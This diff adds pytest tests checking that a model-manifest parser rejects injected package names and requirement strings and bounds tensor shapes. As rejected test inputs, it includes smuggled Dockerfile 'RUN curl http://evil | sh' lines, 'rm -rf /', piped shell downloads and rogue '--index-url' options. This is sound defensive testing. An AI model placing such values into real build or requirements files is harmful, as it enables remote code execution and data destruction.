@@ -262,3 +262,129 @@ def test_system_packages_are_for_python_models_only():
     with pytest.raises(ManifestError) as info:
         parse_manifest({"framework": "onnx", "system_packages": ["libgl1"]})
     assert info.value.field == "system_packages"
+
+
+# --- names that end up in a Dockerfile, a requirements file or pip's command line ---------
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "jq\n",  # match() with "$" let this through: the newline ends the Dockerfile's RUN line
+        "jq\n RUN curl evil",
+        "jq\nRUN curl http://evil | sh",
+        "jq curl",  # two names in one item
+        "jq --allow-unauthenticated",
+        "jq;id",
+        "jq$(id)",
+        "jq`id`",
+        "jq&&id",
+        "jq\t",
+        " jq",
+        "jq ",
+    ],
+)
+def test_system_packages_are_checked_whole(name):
+    data = {"framework": "python", "entrypoint": "predictor:Model", "system_packages": ["libgl1", name]}
+    with pytest.raises(ManifestError) as info:
+        parse_manifest(data)
+    assert info.value.field == "system_packages[1]"
+    assert "Debian package name" in info.value.message
+
+
+@pytest.mark.parametrize(
+    "requirement",
+    [
+        "numpy\n--index-url http://x",
+        "jq\n RUN curl evil",
+        "numpy --index-url http://x",  # pip reads " --option" in a requirements line
+        "numpy --hash=sha256:00",
+        "numpy>=1.20 --global-option=--evil",
+        "numpy scipy",  # two requirements in one item
+        "numpy; python_version > '3' -e x",
+        "numpy; rm -rf /",
+        "numpy && curl http://x | sh",
+        "numpy|sh",
+        "numpy$(id)",
+        "numpy`id`",
+        "numpy\tscipy",
+        "pkg @ https://example.invalid/pkg.whl",  # direct references are refused
+        "numpy==1.0\\",
+        "x" * 201,
+    ],
+)
+def test_requirements_are_checked_whole(requirement):
+    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": ["pillow", requirement]}
+    with pytest.raises(ManifestError) as info:
+        parse_manifest(data)
+    assert info.value.field == "requirements[1]"
+
+
+def test_requirements_file_lines_are_checked_whole(tmp_path):
+    (tmp_path / "predictor.py").write_text("class Model: pass\n")
+    (tmp_path / "requirements.txt").write_text("numpy>=1.20\nrequests --index-url http://evil.invalid\n")
+    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": "requirements.txt"}
+    with pytest.raises(ManifestError) as info:
+        parse_manifest(data, model_dir=tmp_path)
+    assert info.value.field == "requirements (requirements.txt line 2)"
+
+
+@pytest.mark.parametrize(
+    "requirement",
+    [
+        "numpy",
+        "numpy>=1.20",
+        "numpy >= 1.20, < 3",
+        "opencv-python-headless==4.12.0.88",
+        "rapidocr_onnxruntime==1.4.4",
+        "requests[socks,security]==2.32.0",
+        "requests (>=2.0)",
+        "torch==2.1.0+cpu",
+        "zope.interface~=6.0.*",
+        'numpy; python_version < "3.12"',
+        "pywin32>=306 ; sys_platform == 'win32'",
+    ],
+)
+def test_pep508_requirements_are_accepted(requirement):
+    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": [requirement]}
+    assert parse_manifest(data).requirements == (requirement,)
+
+
+def test_a_requirements_file_name_is_a_single_line():
+    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": "req.txt\nRUN id"}
+    with pytest.raises(ManifestError) as info:
+        parse_manifest(data)
+    assert info.value.field == "requirements"
+
+
+# --- bounded shapes -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "shape, field",
+    [
+        ([-1, 100_000, 100_000], "inputs[0].shape[1]"),
+        ([-1, 65_537], "inputs[0].shape[1]"),
+        ([-1, 65_536, 65_536], "inputs[0].shape"),  # each dimension is fine, the product is not
+        ([-1, 4096, 4096], "inputs[0].shape"),
+        ([1] * 33, "inputs[0].shape"),
+    ],
+)
+def test_shapes_are_bounded(shape, field):
+    data = {"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": shape}]}
+    with pytest.raises(ManifestError) as info:
+        parse_manifest(data)
+    assert info.value.field == field, str(info.value)
+
+
+def test_output_shapes_are_bounded_too():
+    data = {"framework": "onnx", "outputs": [{"name": "y", "datatype": "FP32", "shape": [-1, 10**9]}]}
+    with pytest.raises(ManifestError) as info:
+        parse_manifest(data)
+    assert info.value.field == "outputs[0].shape[1]"
+
+
+@pytest.mark.parametrize("shape", [[-1, 65_536], [-1, 3, 1024, 1024], [-1, -1, -1], [0], [-1, 100, 100_000 // 100]])
+def test_shapes_within_the_bounds_are_accepted(shape):
+    data = {"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": shape}]}
+    assert parse_manifest(data).inputs[0].shape == tuple(shape)
